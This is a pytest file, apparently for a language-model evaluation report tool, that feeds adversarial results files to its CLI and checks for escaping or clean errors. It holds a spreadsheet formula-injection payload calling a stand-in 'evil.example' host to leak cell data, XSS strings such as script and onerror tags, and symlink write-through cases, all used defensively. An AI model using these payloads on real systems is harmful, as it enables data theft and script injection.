"""Hostile inputs to the report tools (the adversarial review's cases), each through ``cli.main``.

Results and samples files are anybody's JSON: formulas in names, HTML in model arguments, numbers no float
holds, JSON nested 100,000 deep, impossible scores, colliding task names and links in the input and output
folders. Every outcome is a clean run (text escaped, impossible values flagged) or exit 2 with exactly one
``error:`` line, never a traceback. The last test fuzzes the inputs with hypothesis.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import math
import os
import re
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from reports_fixtures import write_results

from lm_eval_cog.reports.cli import main
from lm_eval_cog.reports.names import MAX_STEM, unique_slugs
from lm_eval_cog.reports.spreadsheet import csv_text

STAMP = "2025-01-01T00-00-00.000001"  # reports_fixtures' default
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"


# ---------------------------------------------------------------- building inputs


def stroop_row(acc: float, **extra: object) -> dict:
    """A static probe's row: acc with its chance level, so it is normalised and ranked."""
    return {"alias": "cog_stroop_mc", "acc,none": acc, "acc_stderr,none": 0.1, "acc_chance,none": 0.25, **extra}


STROOP_CONFIG = {"cog_stroop_mc": {"task": "cog_stroop_mc", "metadata": {"probe": "stroop"}}}


def model(folder: Path, name: str, acc: float, **kwargs: object) -> Path:
    """One model's output folder with cog_stroop_mc (and whatever ``kwargs`` add)."""
    results = kwargs.pop("results", {"cog_stroop_mc": stroop_row(acc)})
    kwargs.setdefault("configs", STROOP_CONFIG)
    return write_results(folder / name, results, model_args=f"pretrained=org/{name}", **kwargs).parent


def three_models(tmp_path: Path, bad: dict | None = None) -> Path:
    root = tmp_path / "in"
    model(root, "alpha", 0.5)
    model(root, "beta", 0.75)
    model(root, "gamma", 0.6, **(bad or {}))
    return root


def run_main(capsys, *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def assert_input_error(code: int, err: str, *needles: str) -> str:
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def rewrite(path: Path, edit) -> None:
    """Apply ``edit`` to the parsed results file (or use its text when it returns a str) and write it back."""
    data = json.loads(path.read_text(encoding="utf-8"))
    new = edit(data)
    path.write_text(new if isinstance(new, str) else json.dumps(data), encoding="utf-8")


def results_file(folder: Path) -> Path:
    return next(folder.rglob("results_*.json"))


# ---------------------------------------------------------------- CSV: no formulas


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):  # only a number may start so: it must parse as one
                float(cell)


def test_csv_cells_from_names_cannot_start_a_formula(tmp_path, capsys):
    root = tmp_path / "in"
    tasks = {FORMULA: -0.25, "+cmd": 0.5, "@SUM(A1)": 0.25, "\tx": 0.1, "-2": 0.3}
    for i, name in enumerate(("=1+1", "-neg", "@at")):
        rows = {t: {"delta,none": v - i / 10} for t, v in tasks.items()}  # negative scores stay numbers
        write_results(root / f"m{i}", rows, model_args=f"pretrained=x/{name}")
    code, _, err = run_main(capsys, "compare", root, "-o", tmp_path / "c", "--pair", "=1+1", "@at")
    assert code == 0, err
    matrix, kendall = csv_rows(tmp_path / "c" / "matrix.csv"), csv_rows(tmp_path / "c" / "kendall.csv")
    assert_no_formula(matrix)
    assert_no_formula(kendall)
    assert "'" + FORMULA in matrix[0] and "'+cmd" in matrix[0] and "'\tx" in matrix[0]
    assert [r[0] for r in matrix[1:]] == ["'=1+1", "'-neg", "'@at"]
    assert float(matrix[1][matrix[0].index("'" + FORMULA)]) == -0.25  # a number, not escaped
    assert any(r[0] == "'" + FORMULA or r[1] == "'" + FORMULA for r in kendall[1:])

    code, _, err = run_main(capsys, "leaderboard", root, "-o", tmp_path / "l")
    assert code == 0, err
    board = csv_rows(tmp_path / "l" / "leaderboard.csv")
    assert_no_formula(board)
    assert sorted(r[0] for r in board[1:]) == ["'-neg", "'=1+1", "'@at"]


def test_csv_text_escapes_text_and_keeps_numbers():
    rows = csv_rows_of([["=a", "+b", "-c", "@d", "\te", "\rf", "\uff1dg", "ok", -1.5, 0, None, math.nan, math.inf]])
    assert rows == [["'=a", "'+b", "'-c", "'@d", "'\te", "'\rf", "'\uff1dg", "ok", "-1.5", "0", "", "", ""]]


def csv_rows_of(rows: list[list[object]]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text(rows))))


# ---------------------------------------------------------------- Markdown: no live HTML, links or cells


def unescaped(text: str, char: str) -> list[int]:
    """Positions of ``char`` not preceded by an odd number of backslashes."""
    def backslashes_before(i: int) -> int:
        return len(text[:i]) - len(text[:i].rstrip("\\"))

    return [m.start() for m in re.finditer(re.escape(char), text) if backslashes_before(m.start()) % 2 == 0]


def assert_safe_markdown(text: str) -> None:
    assert not unescaped(text, "<"), [text[i - 20 : i + 20] for i in unescaped(text, "<")]
    assert not unescaped(text, "&")
    assert not unescaped(text, "`")
    assert not any(line.lstrip().startswith("# heading") for line in text.splitlines())
    for block in text.split("\n\n"):  # every table row has as many cells as its header
        lines = [line for line in block.splitlines() if line.startswith("|")]
        if lines:
            assert len({len(unescaped(line, "|")) for line in lines}) == 1, block


def test_report_markdown_escapes_model_args_and_task_names(tmp_path, capsys):
    hostile_task = f"{IMG}|x`y`[a](javascript:alert(1))&amp;\n# heading"
    folder = write_results(
        tmp_path / "in",
        {"cog_stroop_mc": stroop_row(0.5), hostile_task: {"acc,none": 0.5}},
        model_args={"pretrained": "org/m", "note": SCRIPT},
        configs=STROOP_CONFIG,
        samples={hostile_task: [{"doc_id": 0, "doc": {}, "resps": [["hi"]], "filtered_resps": ["hi"], "acc": 1}]},
    ).parent
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r", "--label", f"{SCRIPT} [x](y)")
    assert code == 0, err
    text = (tmp_path / "r" / "report.md").read_text(encoding="utf-8")
    assert_safe_markdown(text)
    assert r"\<script\>alert(1)\</script\>" in text and r"\<img src=x onerror=alert(1)\>" in text
    assert r"\[a\](javascript:alert(1))" in text and r"\&amp;" in text
    assert "[episodes](episodes/" in text  # the package's own links stay links


def test_comparison_markdown_escapes_labels_tasks_and_warnings(tmp_path, capsys):
    root = tmp_path / "in"
    for i in range(3):
        rows = {IMG: {"acc,none": 0.2 * i}, f"t|{i % 2}": {"acc,none": 0.5}}
        write_results(root / f"m{i}", rows, model_args=f"pretrained=x/m{i}")
    labels = [f"{SCRIPT}{i}" for i in range(3)]
    argv = ["compare", *(root / f"m{i}" for i in range(3)), "-o", tmp_path / "c"]
    argv += [a for label in labels for a in ("--label", label)] + ["--pair", labels[0], labels[1]]
    code, _, err = run_main(capsys, *argv)
    assert code == 0, err
    text = (tmp_path / "c" / "comparison.md").read_text(encoding="utf-8")
    assert_safe_markdown(text)
    assert r"\<script\>alert(1)\</script\>0" in text


# ---------------------------------------------------------------- malformed results: exit 2, one line


def bigint(data: dict) -> str:
    return json.dumps(data).replace('"acc,none": 0.5', '"acc,none": ' + "1" * 400, 1)


def deep(data: dict) -> str:
    return '{"results": {"cog_stroop_mc": ' + "[" * 100_000 + "]" * 100_000 + "}}"


def n_samples(value: str):
    def edit(data: dict) -> str:
        data["n-samples"] = {"cog_stroop_mc": {"original": 4, "effective": "@"}}
        return json.dumps(data).replace('"@"', value)

    return edit


def setter(*path: str, value: object):
    def edit(data: dict) -> None:
        node = data
        for key in path[:-1]:
            node = node.setdefault(key, {})
        node[path[-1]] = value

    return edit


MALFORMED = {
    "metric of 10**400": (bigint, "results['cog_stroop_mc']['acc,none'] is a number too large for a float"),
    "n-samples Infinity": (n_samples("Infinity"), "n-samples['cog_stroop_mc']['effective'] is not a sample count: inf"),
    "n-samples NaN": (n_samples("NaN"), "n-samples['cog_stroop_mc']['effective'] is not a sample count: nan"),
    "n-samples string": (n_samples('"four"'), "['effective'] is not a sample count: 'four'"),
    "n-samples negative": (n_samples("-3"), "is not a sample count: -3"),
    "higher_is_better a list": (
        setter("higher_is_better", "cog_stroop_mc", value=[True]),
        "higher_is_better['cog_stroop_mc'] is not an object",
    ),
    "higher_is_better not a bool": (
        setter("higher_is_better", "cog_stroop_mc", "acc", value="yes"),
        "higher_is_better['cog_stroop_mc']['acc'] is not true/false",
    ),
    "nested 100,000 deep": (deep, "nested too deeply"),
    "nested 150 deep": (
        setter("configs", "cog_stroop_mc", "metadata", value=json.loads("[" * 150 + "]" * 150)),
        "nested deeper than 100 levels",
    ),
    "group_subtasks not names": (
        setter("group_subtasks", "g", value=[["cog_stroop_mc"]]),
        "group_subtasks['g'] is not a list of names",
    ),
    "groups row not an object": (setter("groups", "g", value=3), "groups['g'] is not an object"),
    "model_args a number": (setter("config", "model_args", value=5), "config['model_args'] is neither text nor"),
    "date of 10**400": (
        lambda d: json.dumps(d).replace('"date": 1735689600.0', '"date": 1' + "0" * 400),
        "date is a number too large",
    ),
    "version an object": (setter("versions", "cog_stroop_mc", value={"v": 1}), "versions['cog_stroop_mc'] is not a"),
}


@pytest.mark.parametrize("command", ["report", "compare", "leaderboard"])
@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_results_file_is_one_error_line_naming_file_and_field(tmp_path, capsys, case, command):
    edit, message = MALFORMED[case]
    folder = model(tmp_path / "in", "m", 0.5)
    rewrite(results_file(folder), edit)
    code, _, err = run_main(capsys, command, folder, "-o", tmp_path / "out")
    assert_input_error(code, err, str(results_file(folder)), message)
    assert not (tmp_path / "out").exists()


def sample_with(**fields: object) -> dict:
    return {"doc_id": 0, "doc": {"choices": ["a", "b"]}, "resps": [["a"]], "filtered_resps": ["a"], "acc": 1, **fields}


BAD_SAMPLES = {
    "filtered_resps an object": (sample_with(filtered_resps={"0": 1}), "filtered_resps is not a list"),
    "filtered_resps a number": (sample_with(filtered_resps=7), "filtered_resps is not a list"),
    "resps text": (sample_with(resps="abc"), "resps is not a list"),
    "arguments a number": (sample_with(arguments=3), "arguments is not a list or dict"),
    "metrics not names": (sample_with(metrics=[["acc"]]), "metrics is not a list of names"),
    "acc of 10**400": (sample_with(acc=10**400), "acc is a number too large for a float"),
    "trials not a list": (
        sample_with(resps=[[json.dumps({"paradigm": "wcst", "trials": 5, "turns": []})]]),
        "resps[0][0]['trials'] is not a list",
    ),
    "trial field of 10**400": (
        sample_with(resps=[[json.dumps({"paradigm": "prlt", "trials": [{"p_left": 10**400}], "turns": []})]]),
        "resps[0][0]['trials'][0]['p_left'] is a number too large for a float",
    ),
}


@pytest.mark.parametrize("case", list(BAD_SAMPLES))
def test_a_malformed_sample_costs_its_task_the_viewer_with_a_warning_naming_line_and_field(tmp_path, capsys, case):
    sample, message = BAD_SAMPLES[case]
    folder = model(tmp_path / "in", "m", 0.5, samples={"cog_stroop_mc": [sample_with(), sample]})
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "out")
    assert code == 0, err
    text = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert "cog_stroop_mc: samples not shown" in text and "line 2" in text
    assert message.replace("[", "\\[").replace("]", "\\]") in text  # as report.md escapes it
    assert not (tmp_path / "out" / "episodes" / "cog_stroop_mc.html").exists()


# ---------------------------------------------------------------- impossible values: flagged, never ranked


IMPOSSIBLE = {"1e308": 1e308, "inf": math.inf, "-inf": -math.inf, "1.5": 1.5, "-1e308": -1e308}


@pytest.mark.parametrize("value", list(IMPOSSIBLE))
def test_an_impossible_score_is_flagged_and_never_ranked(tmp_path, capsys, value):
    acc = IMPOSSIBLE[value]
    root = three_models(tmp_path, {"results": {"cog_stroop_mc": stroop_row(acc)}})
    code, _, err = run_main(capsys, "leaderboard", root, "-o", tmp_path / "l")
    assert code == 0, err
    board = json.loads((tmp_path / "l" / "leaderboard.json").read_text(encoding="utf-8"))
    assert board["models"] == ["beta", "alpha", "gamma"] and board["overall"]["gamma"] is None
    assert board["raw"]["gamma"]["cog_stroop_mc"] is None
    note = next(n for n in board["notes"] if n.startswith("Impossible values"))
    assert "gamma: cog_stroop_mc acc,none = " in note and "(possible: [0, 1])" in note
    assert not any("Undefined (NaN)" in n and "gamma" in n for n in board["notes"])
    row = next(r for r in csv_rows(tmp_path / "l" / "leaderboard.csv") if r[0] == "gamma")
    assert row[1] == ""  # overall: no number

    code, _, err = run_main(capsys, "compare", root, "-o", tmp_path / "c", "--pair", "gamma", "beta")
    assert code == 0, err
    comparison = json.loads((tmp_path / "c" / "comparison.json").read_text(encoding="utf-8"))
    assert comparison["matrix"]["gamma"]["cog_stroop_mc"] is None
    assert any(w.startswith("Impossible values") and "gamma" in w for w in comparison["warnings"])

    code, _, err = run_main(capsys, "report", root / "gamma", "-o", tmp_path / "r")
    assert code == 0, err
    text = (tmp_path / "r" / "report.md").read_text(encoding="utf-8")
    assert "cog_stroop_mc: acc,none = " in text and "is impossible" in text
    assert "No task of this run has both a chance and an ideal level" in text  # no profile from it


def test_impossible_stderrs_and_chance_levels_are_dropped_not_drawn(tmp_path, capsys):
    """All numbers -1e308 (the review's case: matplotlib refused the negative error bars)."""
    row = {k: -1e308 for k in ("acc,none", "acc_stderr,none", "acc_chance,none", "acc_congruent,none",
                               "acc_congruent_stderr,none", "acc_incongruent,none", "acc_incongruent_stderr,none")}
    folder = model(tmp_path / "in", "m", 0.5, results={"cog_stroop_mc": row})
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r")
    assert code == 0, err
    text = (tmp_path / "r" / "index.html").read_text(encoding="utf-8")
    assert "acc_congruent_stderr,none = -1e+308 (possible: [0, 1]) is impossible: left out" in text
    assert list((tmp_path / "r" / "figures").glob("cog_stroop_mc_conditions.png"))


def test_a_possible_value_of_an_unbounded_metric_is_kept(tmp_path, capsys):
    """Ranges are known only where the metric fixes them: a perplexity of 1e9 is a value, not an error."""
    root = tmp_path / "in"
    for i, ppl in enumerate((1e9, 2e9, 3e9)):
        write_results(root / f"m{i}", {"wikitext": {"word_perplexity,none": ppl}}, model_args=f"pretrained=x/m{i}")
    code, _, err = run_main(capsys, "compare", root, "-o", tmp_path / "c")
    assert code == 0, err
    comparison = json.loads((tmp_path / "c" / "comparison.json").read_text(encoding="utf-8"))
    assert comparison["matrix"]["m2"]["wikitext"] == 3e9


# ---------------------------------------------------------------- page names and ids: unique


class Ids(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.hrefs: list[str] = []
        self.tasks: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.ids += [a["id"]] if "id" in a else []
        self.hrefs += [a["href"]] if tag == "a" and a.get("href") else []
        self.tasks += [a["data-task"]] if "data-task" in a else []


def parsed(path: Path) -> Ids:
    p = Ids()
    p.feed(path.read_text(encoding="utf-8"))
    return p


def wcst_sample(doc_id: int) -> dict:
    """An episode whose transcript the set-shifting figures can draw: colour for 3 trials, then shape."""
    trials = [{"rule": "colour" if i < 3 else "shape", "outcome": "correct" if i % 2 else "error"} for i in range(6)]
    transcript = {"paradigm": "wcst", "status": "ok", "trials": trials, "turns": [{"user": "?", "reply": "1"}] * 6}
    return {"doc_id": doc_id, "doc": {}, "resps": [[json.dumps(transcript)]], "filtered_resps": [""], "score": 50.0}


def test_colliding_task_names_get_their_own_pages_ids_and_figures(tmp_path, capsys):
    names = ["cog_wcst_direct?", "cog_wcst_direct", "COG_WCST_DIRECT"]  # one slug, one differing only in case
    rows = {n: {"score,none": 40.0 + i, "acc,none": 0.4} for i, n in enumerate(names)}
    samples = {n: [wcst_sample(i)] for i, n in enumerate(names)}
    folder = model(tmp_path / "in", "m", 0.5, results=rows, samples=samples, configs={})
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r")
    assert code == 0, err
    index = parsed(tmp_path / "r" / "index.html")
    assert len(index.ids) == len(set(index.ids))
    pages = sorted({h for h in index.hrefs if h.startswith("episodes/")})
    assert len(pages) == 3
    assert sorted(parsed(tmp_path / "r" / p).tasks[0] for p in pages) == sorted(names)
    for page in pages:  # each page links back to its own section
        back = [h for h in parsed(tmp_path / "r" / page).hrefs if h.startswith("../index.html#")]
        assert back and back[0].split("#")[1] in index.ids
    assert len(list((tmp_path / "r" / "figures").glob("*_perseveration.png"))) == 3
    # The same names in another order give the same files.
    folder = model(tmp_path / "in2", "m", 0.5, results=dict(reversed(rows.items())), samples=samples, configs={})
    assert run_main(capsys, "report", folder, "-o", tmp_path / "r2")[0] == 0
    again = sorted(p.name for p in (tmp_path / "r2" / "episodes").iterdir())
    assert again == [p.removeprefix("episodes/") for p in pages]


def test_a_plain_task_name_keeps_its_page_when_an_odd_one_collides_with_it():
    assert unique_slugs(["cog_wcst_direct", "cog_wcst_direct?"])["cog_wcst_direct"] == "cog_wcst_direct"


def test_unique_slugs_are_distinct_short_and_independent_of_order():
    names = ["a?", "a!", "a", "A", "x" * 500, "x" * 499 + "y", ".", "..", ""]
    slugs = unique_slugs(names)
    assert slugs == unique_slugs(reversed(names))
    assert len({s.casefold() for s in slugs.values()}) == len(set(names))
    assert all(len(s) <= MAX_STEM and re.fullmatch(r"[A-Za-z0-9._-]+", s) for s in slugs.values())
    assert unique_slugs(["cog_wcst_direct"]) == {"cog_wcst_direct": "cog_wcst_direct"}


def test_a_long_label_and_task_name_still_give_writable_files(tmp_path, capsys):
    long = "t" * 200  # its samples file name still fits the file system; its pages and figures need cutting
    folder = model(
        tmp_path / "in", "m", 0.5,
        results={long: stroop_row(0.5)},
        configs={long: STROOP_CONFIG["cog_stroop_mc"]},
        samples={long: [sample_with()]},
    )
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r", "--label", "L" * 300)
    assert code == 0, err
    assert all(len(p.name) < 120 for p in (tmp_path / "r").rglob("*"))


# ---------------------------------------------------------------- links in the output folder: refused


@pytest.mark.parametrize(
    ("command", "name"),
    [("report", "index.html"), ("report", "report.md"), ("compare", "matrix.csv"), ("compare", "comparison.json"),
     ("leaderboard", "leaderboard.csv"), ("leaderboard", "index.html")],
)
def test_force_never_writes_through_a_link_in_the_output_folder(tmp_path, capsys, command, name):
    root = three_models(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(victim)
    source = root / "gamma" if command == "report" else root
    code, _, err = run_main(capsys, command, source, "-o", out, "--force")
    assert_input_error(code, err, f"{out / name} is a symbolic link", "written through")
    assert victim.read_text(encoding="utf-8") == "keep me"


@pytest.mark.parametrize("folder", ["figures", "episodes"])
def test_force_never_writes_into_a_linked_sub_folder(tmp_path, capsys, folder):
    source = model(tmp_path / "in", "m", 0.5, samples={"cog_stroop_mc": [sample_with()]},
                   results={"cog_stroop_mc": stroop_row(0.5, **{"acc_congruent,none": 0.5})})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / folder).symlink_to(elsewhere, target_is_directory=True)
    code, _, err = run_main(capsys, "report", source, "-o", out, "--force")
    assert_input_error(code, err, f"{out / folder} is a symbolic link")
    assert list(elsewhere.iterdir()) == []


def test_force_replaces_a_hard_linked_file_instead_of_writing_into_it(tmp_path, capsys):
    root = three_models(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    os.link(victim, out / "leaderboard.csv")
    code, _, err = run_main(capsys, "leaderboard", root, "-o", out, "--force")
    assert code == 0, err
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert (out / "leaderboard.csv").read_text(encoding="utf-8").startswith("model,overall")


def test_an_output_folder_that_is_itself_a_link_is_the_users_choice(tmp_path, capsys):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "latest").symlink_to(real, target_is_directory=True)
    code, _, err = run_main(capsys, "leaderboard", three_models(tmp_path), "-o", tmp_path / "latest", "--force")
    assert code == 0, err
    assert (real / "index.html").is_file()


# ---------------------------------------------------------------- links in the input folder: read, with a warning


def test_inputs_linked_from_outside_the_input_folder_are_reported(tmp_path, capsys):
    elsewhere = model(tmp_path / "elsewhere", "m", 0.5, samples={"cog_stroop_mc": [sample_with()]})
    folder = tmp_path / "in" / "m"
    folder.mkdir(parents=True)
    for path in elsewhere.iterdir():
        (folder / path.name).symlink_to(path)
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r")
    assert code == 0, err
    warnings = [line for line in err.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 2 and all("outside the input folder" in w for w in warnings)
    assert any(f"results_{STAMP}.json is a link to {elsewhere.resolve()}" in w for w in warnings)
    assert any(f"samples_cog_stroop_mc_{STAMP}.jsonl is a link to" in w for w in warnings)
    assert "outside the input folder" in (tmp_path / "r" / "index.html").read_text(encoding="utf-8")
    assert "outside the input folder" in (tmp_path / "r" / "report.md").read_text(encoding="utf-8")

    code, _, err = run_main(capsys, "leaderboard", folder, "-o", tmp_path / "l")
    assert code == 0 and "warning: " in err
    assert "outside the input folder" in (tmp_path / "l" / "index.html").read_text(encoding="utf-8")


def test_links_inside_the_input_folder_and_named_files_need_no_warning(tmp_path, capsys):
    folder = model(tmp_path / "in", "m", 0.5, samples={"cog_stroop_mc": [sample_with()]})
    samples = folder / f"samples_cog_stroop_mc_{STAMP}.jsonl"
    (folder / "store").mkdir()
    samples.rename(folder / "store" / "kept.jsonl")
    samples.symlink_to(folder / "store" / "kept.jsonl")
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r")
    assert code == 0 and "warning" not in err, err
    assert (tmp_path / "r" / "episodes" / "cog_stroop_mc.html").is_file()
    elsewhere = model(tmp_path / "elsewhere", "m", 0.5)
    (tmp_path / "named.json").symlink_to(results_file(elsewhere))
    code, _, err = run_main(capsys, "leaderboard", tmp_path / "named.json", "-o", tmp_path / "l")
    assert code == 0 and "warning" not in err, err


def test_a_failing_run_prints_its_error_line_only(tmp_path, capsys):
    elsewhere = model(tmp_path / "elsewhere", "m", 0.5)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"results_{STAMP}.json").symlink_to(results_file(elsewhere))
    code, _, err = run_main(capsys, "report", folder, "-o", tmp_path / "r", "--metric", "cog_stroop_mc=nope")
    assert_input_error(code, err, "no such metric")


# ---------------------------------------------------------------- fuzz: random JSON shapes and values


FUZZ = settings(
    max_examples=400 if os.environ.get("LM_EVAL_COG_HYPOTHESIS") == "deep" else 60,
    deadline=None,
    derandomize=os.environ.get("LM_EVAL_COG_HYPOTHESIS") != "deep",
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)

TEXTS = st.one_of(
    st.text(max_size=12),
    st.sampled_from([FORMULA, SCRIPT, IMG, "a|b", "`x`", "[x](y)", "\n# h", "$x^$", "\udcff", "..", "a/b", "t" * 300]),
)
def rarely(common: st.SearchStrategy, rare: st.SearchStrategy, one_in: int = 10) -> st.SearchStrategy:
    """``rare`` about once in ``one_in`` draws, else ``common`` (one bad value per file is enough to test)."""
    return st.sampled_from(range(one_in)).flatmap(lambda i: rare if i == one_in - 1 else common)


NUMBERS = rarely(
    st.one_of(st.floats(0, 1), st.floats(0, 1), st.integers(0, 100)),
    st.one_of(
        st.floats(allow_nan=True, allow_infinity=True),
        st.integers(-(10**6), 10**6),
        st.sampled_from([1e308, -1e308, 5e-324, 1.5, -0.5]),
        rarely(st.just(-1e308), st.sampled_from([10**400, -(10**400), 2**1024]), 5),
    ),
    4,
)
SCALARS = st.one_of(st.none(), st.booleans(), NUMBERS, TEXTS)
JSON = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXTS, inner, max_size=3)),
    max_leaves=8,
)
TASKS = st.one_of(
    st.sampled_from(["cog_stroop_mc", "cog_wcst_direct", "cog_nback_3back", "cog_igt", "mmlu", "cog_stroop_mc?"]), TEXTS
)
METRICS = st.one_of(
    st.sampled_from(["acc,none", "acc_stderr,none", "score,none", "score_stderr,none", "acc_chance,none",
                     "acc_congruent,none", "acc_congruent_stderr,none", "invalid_rate,none", "alias", "delta,none"]),
    TEXTS,
)
PARADIGMS = st.sampled_from(["wcst", "lnt", "nback", "igt", "prlt", "mbt", "wpt", "wason246", "reflect"])


def maybe(valid: st.SearchStrategy) -> st.SearchStrategy:
    """Mostly the shape lm-eval writes, about once in 12 draws any JSON at all."""
    return rarely(valid, JSON, 12)


ROWS = maybe(st.dictionaries(METRICS, maybe(NUMBERS), max_size=5))
TRIAL_VALUES = st.one_of(st.sampled_from(["correct", "error", "invalid", "colour", "shape", "yes", "no", "left",
                                          "right", "query", "rule", "AAA", "answer"]), SCALARS)
TRIALS = st.fixed_dictionaries(
    {
        "outcome": maybe(st.sampled_from(["correct", "error", "invalid"])),
        "rule": maybe(st.sampled_from(["colour", "shape"])),
    },
    optional={k: TRIAL_VALUES for k in ("task", "choice", "target", "p_left", "p_right", "good_arm", "final",
                                        "final_invalid", "kind", "expect", "phase", "correct", "invalid", "day")},
)
TRANSCRIPTS = st.fixed_dictionaries(
    {"paradigm": maybe(PARADIGMS), "trials": maybe(st.lists(maybe(TRIALS), min_size=1, max_size=8))},
    optional={"status": maybe(st.sampled_from(["ok", "failed"])),
              "turns": maybe(st.lists(maybe(st.fixed_dictionaries({"user": TEXTS, "reply": TEXTS})), max_size=6)),
              "system": JSON, "params": JSON, "error": JSON},
)
REPLIES = rarely(TRANSCRIPTS.map(json.dumps), st.one_of(TEXTS, JSON), 3)
SAMPLES = maybe(st.fixed_dictionaries(
    {"doc_id": maybe(st.integers(0, 5)),
     "resps": maybe(st.lists(maybe(st.lists(REPLIES, min_size=1, max_size=2)), min_size=1, max_size=2))},
    optional={"doc": maybe(st.fixed_dictionaries({"choices": maybe(st.lists(TEXTS, max_size=3)), "gold": JSON})),
              "filtered_resps": maybe(st.lists(maybe(st.lists(NUMBERS, max_size=2)), max_size=3)),
              "metrics": maybe(st.lists(METRICS, max_size=2)), "acc": maybe(NUMBERS),
              "arguments": JSON, "target": JSON},
))


@st.composite
def results_files(draw) -> tuple[object, dict[str, list]]:
    """(the results file's JSON, task -> sample lines): lm-eval's shape with random holes and values."""
    tasks = draw(st.lists(TASKS, min_size=1, max_size=3, unique=True))
    table = lambda values: maybe(st.fixed_dictionaries({t: values for t in tasks}))  # noqa: E731
    data = {
        "results": draw(maybe(st.fixed_dictionaries({t: ROWS for t in tasks}))),
        "config": draw(maybe(st.fixed_dictionaries({"model": maybe(st.just("hf")), "model_args": maybe(TEXTS)}))),
    }
    for key, values in (
        ("configs", st.fixed_dictionaries({"metadata": maybe(st.fixed_dictionaries({"paradigm": maybe(PARADIGMS)}))})),
        ("higher_is_better", st.dictionaries(METRICS, maybe(st.booleans()), max_size=2)),
        ("n-samples", st.fixed_dictionaries({"effective": maybe(st.integers(0, 50))})),
        ("versions", maybe(st.integers(0, 3))),
        ("group_subtasks", maybe(st.lists(st.sampled_from(tasks), max_size=2))),
        ("groups", ROWS),
    ):
        if draw(st.booleans()):
            data[key] = draw(table(values))
    if draw(st.booleans()):
        data["date"] = draw(NUMBERS)
    logged = [t for t in tasks if draw(rarely(st.just(True), st.just(False), 3))]
    samples = {t: draw(st.lists(maybe(SAMPLES), min_size=1, max_size=4)) for t in logged}
    return draw(maybe(st.just(data))), samples


def writable(task: str) -> bool:
    """A samples file name this file system takes (the tool itself must cope with every other name)."""
    try:
        os.fsencode(task)
    except UnicodeEncodeError:
        return False
    return "/" not in task and "\x00" not in task and len(task.encode("utf-8", "surrogateescape")) < 100


def lines(samples: list) -> str:
    return "".join(json.dumps(s) + "\n" for s in samples)


@FUZZ
@given(case=results_files(), command=st.sampled_from(["report", "compare", "leaderboard"]))
def test_fuzzed_inputs_end_in_a_clean_run_or_one_error_line(case, command):
    data, samples = case
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "in" / "m"
        folder.mkdir(parents=True)
        (folder / f"results_{STAMP}.json").write_text(json.dumps(data), encoding="utf-8")
        for task, rows in samples.items():
            if writable(task):
                (folder / f"samples_{task}_{STAMP}.jsonl").write_text(lines(rows), encoding="utf-8")
        err = io.StringIO()
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = main([command, str(folder), "-o", str(Path(tmp) / "out")])
        # Shown by --hypothesis-show-statistics: how far the examples got (figures drawn, pages written).
        event(f"figures: {len(list((Path(tmp) / 'out').glob('figures/*.png')))}")
        event(f"episode pages: {len(list((Path(tmp) / 'out').glob('episodes/*.html')))}")
    event(f"{command}: exit {code}")
    if code == 2:
        assert len(err.getvalue().strip().splitlines()) == 1 and err.getvalue().startswith("error: "), err.getvalue()
    else:
        assert code == 0, err.getvalue()
